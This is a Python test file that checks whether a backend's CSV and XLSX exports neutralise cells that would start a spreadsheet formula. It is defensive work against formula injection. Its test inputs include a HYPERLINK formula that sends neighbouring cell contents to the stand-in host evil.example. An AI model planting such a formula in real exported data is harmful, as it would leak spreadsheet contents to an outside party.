"""Exports are safe to open in a spreadsheet: text that would start a formula stays text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from backend.core import tabular

PLANTED = ['=HYPERLINK("http://evil.example/?leak="&A3&B3,"xem")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", PLANTED)
def test_a_csv_cell_that_could_start_a_formula_gets_a_leading_quote(text):
    cells = list(csv.reader(io.StringIO(tabular.to_csv(["mô tả"], [[text]]).lstrip("\ufeff"))))
    assert cells[1] == ["'" + text]


def test_csv_keeps_ordinary_text_and_numbers_as_they_are():
    cells = list(csv.reader(io.StringIO(tabular.to_csv(["x", "y"], [["Lấn chiếm vỉa hè", 3]]).lstrip("\ufeff"))))
    assert cells[1] == ["Lấn chiếm vỉa hè", "3"]


@pytest.mark.parametrize("text", PLANTED)
def test_an_xlsx_cell_that_could_start_a_formula_is_a_string_cell(text):
    sheet = load_workbook(io.BytesIO(tabular.to_xlsx({"Phản ánh": (["mô tả"], [[text]])}))).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value.strip() == text.strip()  # XML folds a lone CR


def test_xlsx_keeps_numbers_as_numbers():
    sheet = load_workbook(io.BytesIO(tabular.to_xlsx({"s": (["n"], [[42]])}))).active
    assert sheet["A2"].value == 42 and sheet["A2"].data_type == "n"
